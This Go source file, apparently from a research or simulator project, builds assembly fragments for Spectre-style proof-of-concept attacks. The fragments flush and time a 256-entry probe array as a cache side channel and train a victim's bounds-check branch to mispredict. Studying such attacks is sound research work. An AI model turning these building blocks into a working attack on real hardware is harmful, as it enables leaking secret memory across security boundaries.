package attack

import "fmt"

// Shared assembly fragments for the PoC programs. Register conventions in
// these snippets: s1-s4 are loop/setup scratch, s6-s11 belong to the
// recovery loop, a0 carries the victim argument.

// resultsAddr is where every PoC leaves its per-guess timings: the
// results array dataCommon lays out.
const resultsAddr = 0x240000

// dataCommon lays out the probe array and the results array every PoC uses.
const dataCommon = `
        .org 0x200000
probe:  .space 131072        # 256 entries x 512B stride
        .org 0x240000
results: .space 2048         # 256 x 8B measured cycles
`

// flushProbe emits the channel-priming loop: clflush every probe entry.
const flushProbe = `
        li   s1, 0
        la   s2, probe
prime:  clflush (s2)
        addi s2, s2, 512
        addi s1, s1, 1
        slti s3, s1, 256
        bne  s3, zero, prime
`

// recoverCache emits the recover phase for the D-cache channel: time a load
// of each probe entry (Listing 1 lines 13-20). The xor chains the probed
// load behind the first rdcycle so the measured window brackets the access.
const recoverCache = `
        li   s10, 0
        la   s11, probe
        la   s9, results
recov:  rdcycle s8
        xor  s7, s8, s8
        add  s7, s7, s11
        lbu  s7, (s7)
        rdcycle s6
        sub  s6, s6, s8
        sd   s6, (s9)
        addi s11, s11, 512
        addi s9, s9, 8
        addi s10, s10, 1
        slti s7, s10, 256
        bne  s7, zero, recov
`

// trainVictim emits n in-bounds calls to "victim" so the bounds-check
// branch predicts not-taken (i.e. "index is valid") when attacked.
func trainVictim(n int) string {
	return fmt.Sprintf(`
        li   s1, %d
train%%[1]d:  li   a0, 0
        call victim
        addi s1, s1, -1
        bne  s1, zero, train%%[1]d
`, n)
}

// uniq instantiates a snippet containing %[1]d placeholders with a unique
// integer so labels do not collide when a snippet is used twice.
func uniq(snippet string, id int) string {
	return fmt.Sprintf(snippet, id)
}
